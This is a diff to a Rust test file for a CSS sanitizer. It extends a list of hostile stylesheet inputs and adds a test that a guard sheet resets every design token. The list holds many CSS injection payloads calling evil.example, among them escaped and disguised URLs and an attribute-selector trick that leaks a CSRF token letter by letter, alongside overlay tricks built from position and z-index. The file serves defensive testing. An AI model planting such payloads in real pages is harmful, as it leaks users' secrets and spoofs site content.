@@ -157,6 +157,38 @@ const HOSTILE: &[&str] = &[
     "@counter-style c{system:cyclic;symbols:url(//evil.example/x)}",
     "@supports (background:url(//evil.example/x)){a{b:c}}",
     "@container style(--x:url(//evil.example)){a{b:c}}",
+    // addresses that are written in another way
+    "a{background:url(https:evil.example/x)}",
+    "a{background:url(https:/evil.example/x)}",
+    "a{background:url(https:\\5c\\5c evil.example/x)}",
+    "a{background:url(///evil.example/x)}",
+    "a{background:url('\\9//evil.example/x')}",
+    "a{background:url('https://fonts.example\\@evil.example/x')}",
+    "a{background:url(https://fonts.example./x)}",
+    "a{background:url(ht\\9tps://evil.example/x)}",
+    "a{background:url(wss://fonts.example/x)}",
+    "a{background:url(filesystem:https://fonts.example/x)}",
+    "a{background:url(about:blank)}",
+    "a{background:url(/brand/x),url(//evil.example/x)}",
+    // functions of later years, and of earlier ones
+    "a{background:if(style(--x:1):url(//evil.example/x))}",
+    "a{--x:if(style(--y:1):url(//evil.example/x))}",
+    "a{background:attr(data-x type(<url>))}",
+    "a{background:-webkit-cross-fade(url(//evil.example/a),url(/brand/b),50%)}",
+    "a{background:-moz-image-rect(url(//evil.example/a),0,0,9,9)}",
+    "a{background:-moz-element(#x)}",
+    "a{filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.example/x')}",
+    "@function --f(){result:url(//evil.example/x)}",
+    "@color-profile --p{src:url(//evil.example/p.icc)}",
+    // within what is allowed
+    "@media print{a{background:url(//evil.example/x)}}",
+    "@layer x{a{background:url(//evil.example/x)}}",
+    "@scope(a){b{background:url(//evil.example/x)}}",
+    "@starting-style{a{background:url(//evil.example/x)}}",
+    "@page{background:url(//evil.example/x)}",
+    "@keyframes k{to{background:url(//evil.example/x)}}",
+    "a{&:hover{background:url(//evil.example/x)}}",
+    "a{background:image-set(url(//evil.example/x) 1x,url(/brand/x) 2x)}",
     // secrets on the page, letter by letter
     "input[name=csrf][value^=a]{background:url(https://evil.example/a)}",
     "input[value^='a' i]:not([x]){list-style-image:url(//evil.example/a)}",
@@ -209,8 +241,21 @@ const HOSTILE: &[&str] = &[
     ".x{z-index:1e9}",
     ".x{z-index:calc(99*99)}",
     ".x{z-index:var(--z)}",
+    ".x{position:if(style(--x:1):fixed)}",
+    ".x{position:attr(data-p)}",
+    ".x{all:unset;position:fixed}",
+    "dialog::backdrop{position:fixed}",
+    ".x{z-index:max(1,99999)}",
+    ".x{z-index:99999 !important}",
+    "@media print{.x{z-index:99999}}",
     "@position-try --x{inset:0}",
     "@view-transition{navigation:auto}",
+    // into the site's notices, past the layers
+    "@property --text{syntax:'<length>';inherits:false;initial-value:0px}",
+    "@font-face{font-family:'Inter Variable';src:local(x)}",
+    "@font-face{font-family:Inter  VARIABLE;src:local(x)}",
+    "@font-face{font-family:Inter\\20 Variable;src:local(x)}",
+    "@media print{@font-face{font-family:'Inter Variable';src:local(x)}}",
 ];
 
 #[test]
@@ -244,6 +289,23 @@ fn inj_05_nothing_ends_the_element_that_holds_a_sheet() {
         let sheet = cage(css, &allowed()).unwrap_or_default().to_ascii_lowercase();
         assert!(!sheet.contains("</") && !sheet.contains("<!"), "{css}: {sheet}");
         assert!(!sheet.contains("<script"), "{css}: {sheet}");
+    }
+}
+
+/// A token that is missing in the list could be set by a brand, on a notice or around it.
+#[test]
+fn inj_05_notices_keep_every_token() {
+    let sheet = |name: &str| {
+        crate::embedded::text::<crate::embedded::Assets>(&format!("css/{name}.css")).expect(name)
+    };
+    let guard = sheet("guard");
+    for name in ["tokens", "alert", "staff-banner", "button", "icon", "form"] {
+        let text = sheet(name);
+        let declared = text.lines().filter_map(|line| line.trim().split_once(':'));
+        for (token, _) in declared.filter(|(token, _)| token.starts_with("--")) {
+            let line = format!("    {token}: revert-layer !important;\n");
+            assert!(guard.contains(&line), "guard.css has no {token} of {name}.css");
+        }
     }
 }
 
@@ -293,6 +355,7 @@ fn each_reason_has_a_text() {
         CssReason::InlinePicture,
         CssReason::Position,
         CssReason::ZIndex,
+        CssReason::SiteFont,
     ];
     let texts = Texts::load().expect("texts");
     for language in ["en", "es"] {
